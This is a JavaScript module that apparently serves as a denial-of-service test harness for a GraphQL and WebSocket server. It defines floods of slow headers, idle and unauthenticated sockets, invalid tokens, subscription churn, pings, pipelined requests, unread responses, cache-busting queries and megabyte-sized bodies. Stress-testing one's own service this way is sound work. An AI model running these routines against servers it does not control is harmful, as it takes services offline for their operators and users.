import { setTimeout as sleep } from 'node:timers/promises';
import { closed, HANDSHAKE, heard, open, toFrame } from './attack-socket.mjs';

/** That many at a time, each anew when it has ended, until the attack is over. */
function repeat(attack, count, act) {
  return Array.from({ length: count }, async () => {
    while (!attack.isOver) {
      await act();
      attack.acts++;
    }
  });
}

/** Over one connection each, and another one when that is cut. */
function repeatOn(attack, count, prepare, act) {
  let serial = 0;
  return repeat(attack, count, async () => {
    const socket = open(attack);
    await prepare(socket);
    while (!attack.isOver && !socket.destroyed) {
      await act(socket, ++serial);
      attack.acts++;
    }
  });
}

const nothing = () => Promise.resolve();
const post = (token, body) =>
  `POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nAuthorization: Bearer ${token}\r\n` +
  `Content-Length: ${body.length}\r\n\r\n${body}`;
const toInit = (token) => toFrame({ type: 'connection_init', payload: { authorization: `Bearer ${token}` } });

function sendBodies(attack, body, token = attack.token) {
  const request = post(token, body);
  return repeatOn(attack, attack.busy, nothing, async (socket) => {
    socket.write(request);
    await heard(socket);
  });
}

/** One that no attack has used before. */
const toName = ({ address }, serial) => `a${address.replaceAll('.', '_')}x${serial}`;

async function init(socket, token) {
  socket.write(HANDSHAKE);
  socket.write(toInit(token));
  // The handshake's answer, and the acknowledgement.
  await heard(socket);
  await heard(socket);
}

export const ATTACKS = [
  {
    name: 'idle',
    title: 'silent connections, each opened again when it is cut',
    begin: (attack) => repeat(attack, attack.idle, () => closed(open(attack))),
  },
  {
    name: 'headers',
    title: 'headers that never end, a byte every 100 ms',
    begin: (attack) =>
      repeatOn(
        attack,
        attack.idle / 10,
        async (socket) => socket.write('GET /graphql HTTP/1.1\r\nX: '),
        async (socket) => {
          socket.write('x');
          await sleep(100);
        },
      ),
  },
  {
    name: 'unknown',
    title: 'WebSockets of which nobody says who it is',
    begin: (attack) =>
      repeat(attack, attack.idle / 10, () => {
        const socket = open(attack);
        socket.write(HANDSHAKE);
        socket.resume();
        return closed(socket);
      }),
  },
  {
    name: 'tokens',
    title: 'WebSockets with tokens that are not valid, one after the other',
    begin: (attack) =>
      repeat(attack, attack.busy, async () => {
        const socket = open(attack);
        // Nobody waits until the server has closed it.
        socket.write(HANDSHAKE);
        socket.write(toInit(`${attack.token}x`));
        await heard(socket);
        socket.destroy();
      }),
  },
  {
    name: 'operations',
    title: 'WebSockets that subscribe and complete, 100 at a time, each another document',
    begin: (attack) =>
      repeatOn(
        attack,
        attack.busy,
        (socket) => init(socket, attack.token),
        async (socket, serial) => {
          const frames = [];
          for (let index = 0; index < 50; index++) {
            const query = `subscription { ${toName(attack, serial)}x${index}: friendshipEvents { seq } }`;
            frames.push(toFrame({ type: 'subscribe', id: '1', payload: { query } }));
            frames.push(toFrame({ type: 'complete', id: '1' }));
          }
          socket.write(Buffer.concat([...frames, toFrame({ type: 'ping' })]));
          await heard(socket);
        },
      ),
  },
  {
    name: 'pings',
    title: 'WebSockets that send pings of the protocol, 100 at a time',
    begin: (attack) => {
      const pings = Buffer.concat(Array.from({ length: 100 }, () => toFrame({ type: 'ping' })));
      return repeatOn(
        attack,
        attack.busy,
        (socket) => init(socket, attack.token),
        async (socket) => {
          socket.write(pings);
          await heard(socket);
        },
      );
    },
  },
  {
    name: 'pipelined',
    title: 'connections that ask 30 times at once, with no token',
    begin: (attack) => {
      const asks = 'GET /graphql?query={me{id}} HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(30);
      return repeatOn(attack, attack.busy, nothing, async (socket) => {
        socket.write(asks);
        await heard(socket);
      });
    },
  },
  {
    name: 'unread',
    title: 'connections that ask for the metrics and read nothing',
    begin: (attack) =>
      repeatOn(
        attack,
        attack.busy,
        async (socket) => socket.pause(),
        async (socket) => {
          if (socket.writableLength === 0) socket.write('GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n');
          await sleep(10);
        },
      ),
  },
  {
    name: 'documents',
    title: 'queries over HTTP, each another document',
    begin: (attack) =>
      repeatOn(attack, attack.busy, nothing, async (socket, serial) => {
        const query = `{ me { ${toName(attack, serial)}: id ${'id nickName '.repeat(50)} } }`;
        socket.write(post(attack.token, JSON.stringify({ query })));
        await heard(socket);
      }),
  },
  {
    name: 'refused',
    title: 'bodies of a megabyte with tokens that are not valid',
    begin: (attack) => sendBodies(attack, ' '.repeat(1_000_000), `${attack.token}x`),
  },
  {
    name: 'brackets',
    title: 'bodies of a megabyte of brackets',
    begin: (attack) => sendBodies(attack, '['.repeat(1_000_000)),
  },
  {
    name: 'numbers',
    title: 'bodies of a megabyte with half a million numbers',
    begin: (attack) => {
      const numbers = Array.from({ length: 500_000 }, () => 1);
      return sendBodies(attack, JSON.stringify({ query: '{ me { id } }', variables: { numbers } }));
    },
  },
];
